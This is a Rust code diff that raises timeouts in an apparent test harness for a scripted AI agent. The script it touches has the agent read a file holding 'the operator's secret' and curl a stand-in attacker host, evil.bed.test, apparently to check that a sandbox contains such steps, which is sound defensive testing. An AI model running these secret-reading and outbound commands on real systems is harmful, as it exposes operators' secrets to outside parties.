@@ -59,7 +59,7 @@ pub struct Agent {
 }
 
 /// How long an agent may take for five turns: the slowest needs half a minute to start.
-const PATIENCE: Duration = Duration::from_secs(240);
+const PATIENCE: Duration = Duration::from_secs(600);
 const SECRET: &str = "the operator's secret";
 
 /// Leads it, and looks at what came of that.
@@ -71,9 +71,9 @@ pub fn lead(stage: &Stage, agent: &Agent) -> Result<()> {
         format!("script-{mark}"),
         vec![
             run(format!("echo tool-{mark} > made-by-tool; cat made-by-tool")),
-            run(format!("curl -sSf --max-time 20 https://api.bed.test/echo?m={mark}")),
+            run(format!("curl -sSf --max-time 60 https://api.bed.test/echo?m={mark}")),
             run(format!("cat {}", secret.display())),
-            run(format!("curl -sS --max-time 20 https://evil.bed.test/{mark}")),
+            run(format!("curl -sS --max-time 60 https://evil.bed.test/{mark}")),
             Turn::text(format!("I went on to the end, {mark}")),
         ],
     );
